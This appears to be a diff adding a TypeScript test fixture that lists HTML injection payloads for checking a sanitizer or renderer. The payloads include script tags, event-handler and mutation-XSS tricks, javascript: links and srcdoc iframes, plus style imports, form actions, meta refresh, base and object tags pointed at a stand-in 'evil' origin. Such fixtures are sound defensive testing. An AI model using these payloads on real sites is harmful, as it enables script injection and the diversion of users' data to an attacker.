@@ -1,0 +1,20 @@
+/** Markup that runs, asks or leaves when it is taken for more than text. `evil` is an origin. */
+export const htmlAttacks = (evil: string): Record<string, string> => ({
+  script: '<script>__pwned=1</script>',
+  onerror: '<img src=x onerror="__pwned=1">',
+  'svg animate': '<svg><animate onbegin="__pwned=1" attributeName="x" dur="1s"></svg>',
+  'svg onload': '<svg onload="__pwned=1">',
+  mutation: '<math><mtext></form><form><mglyph><style></math><img src onerror="__pwned=1">',
+  'script link': '<a href="javascript:__pwned=1">link</a>',
+  srcdoc: '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+  'style import': `<style>@import "${evil}/x.css";</style>`,
+  autofocus: '<input autofocus onfocus="__pwned=1">',
+  form: `<form action="${evil}/x"><button>send</button></form>`,
+  refresh: `<meta http-equiv="refresh" content="0;url=${evil}/x">`,
+  base: `<base href="${evil}/">`,
+  object: `<object data="${evil}/x"></object><embed src="${evil}/x">`,
+  use: '<svg><use href="data:image/svg+xml,<svg id=x onload=__pwned=1>#x"></use></svg>',
+  details: '<details open ontoggle="__pwned=1">x</details>',
+  'tag of ours': `<div data-react="UserCard" data-props='{"userID":1}'>x</div>`,
+  'template text': '</textarea></title></script><img src=x onerror="__pwned=1">',
+});
